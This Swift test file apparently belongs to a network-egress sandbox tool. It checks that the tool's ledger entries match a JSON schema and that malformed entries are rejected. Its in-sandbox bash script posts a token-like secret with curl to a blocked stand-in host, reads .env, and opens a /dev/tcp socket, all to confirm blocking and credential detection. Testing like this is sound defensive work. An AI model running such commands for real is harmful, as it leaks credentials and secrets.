internal import Evidence
internal import Glibc
internal import Testing

/// What is published about the ledger's entries, held against entries that real runs have written.
@Suite("The schema of ledger entries", .enabled(if: BuiltProgram.isBuilt, "\(BuiltProgram.absence)"))
struct LedgerEntrySchemaTests {
  private static let types = [
    "egress.completed", "egress.continued", "egress.decision", "ledger.forked", "run.ended", "run.observed",
    "run.started", "sandbox.attested",
  ]

  private static func check() throws -> SchemaCheck {
    let root = "\(#filePath)".split(separator: "/").dropLast(3).map { "/" + $0 }.joined()
    return SchemaCheck(schema: try JSONParser.parse(try TextFile.read("\(root)/docs/schemas/ledger-entry.schema.json")))
  }

  /// A ledger that was begun anew, with a connection of two pieces, a request with a secret in it, and a blocked one.
  private static func entries() throws -> [JSONValue] {
    let user = try User()
    try #require(try user.sallyport("run", "--quiet", "--", "/bin/true").code == 0)
    // Whoever loses the anchor has a ledger of which nobody can say that it is the newest.
    try #require(user.arrange("rm '\(user.state)/ledger.anchor'") == 0)
    try #require(try user.sallyport("log", "accept-fork", "--yes").code == 0)
    let server = try EchoServer("\(user.root)/echo")
    defer { withExtendedLifetime(server) {} }
    try user.write(
      """
      version: 1
      posture: control
      rules:
        - {name: closed, when: {destination: [closed.test]}, then: block}
        - {name: open, when: {destination: [open.test]}, then: allow}

      """, to: "sallyport.yaml")
    let script = """
      exec 3<>/dev/tcp/open.test/7000
      printf '<one>' >&3; head -c 5 <&3; printf '<two>' >&3; head -c 5 <&3; exec 3>&-
      curl -s -m 5 -d 'key=ghp_16C7e42F292c6912E7710c838347Ae178B4a' http://closed.test/ || true
      cat .env 2>/dev/null; true
      """
    let run = try user.sallyport(
      "run", "--quiet", "--connect-to", "::\(user.root)/echo", "--", "/bin/bash", "-c", script)
    try #require(run.code == 0, "\(run.errors)")
    try #require(run.output.hasPrefix("<one><two>"), "\(run.output)\(run.errors)")
    let shown = try user.sallyport("log", "show", "--json")
    return try shown.output.split(separator: "\n").map { try JSONParser.parse(String($0)) }
  }

  @Test("entries of every type, as a run writes them, are as the schema says, with no member that it does not describe")
  func real() throws {
    let check = try Self.check()
    let entries = try Self.entries()
    #expect(Set(entries.compactMap { $0["type"]?.string }).sorted() == Self.types)
    #expect(
      (check.schema["oneOf"]?.array ?? []).compactMap { $0["$ref"]?.string?.dropFirst(8) }.sorted()
        == Self.types.map { $0[...] })
    for entry in entries { #expect(check.complaints(entry).isEmpty, "\(check.complaints(entry)): \(entry)") }
    #expect(entries.contains { ($0["findings"]?.array ?? []).contains { $0["class"]?.string == "credential" } })
  }

  @Test("a member that is missing, of another form, or unknown is a complaint")
  func canFail() throws {
    let check = try Self.check()
    let sound: [String: JSONValue] = [
      "v": 1, "type": "run.observed", "t": "2026-11-20T12:00:00.123Z", "run": "r_0123456789abcdef",
      "actor": "s_0123456789abcdef", "programs": 3, "incomplete": false, "files": ["git hook": 1],
    ]
    #expect(check.complaints(.object(sound)).isEmpty)
    let changes: [(String, JSONValue?)] = [
      ("v", 2), ("type", "run.other"), ("t", "yesterday"), ("run", "r_0"), ("programs", -1), ("programs", nil),
      ("incomplete", "no"), ("files", ["git hook": "one"]), ("more", 1),
    ]
    for (name, value) in changes {
      var changed = sound
      changed[name] = value
      #expect(!check.complaints(.object(changed)).isEmpty, "\(name)")
    }
  }
}
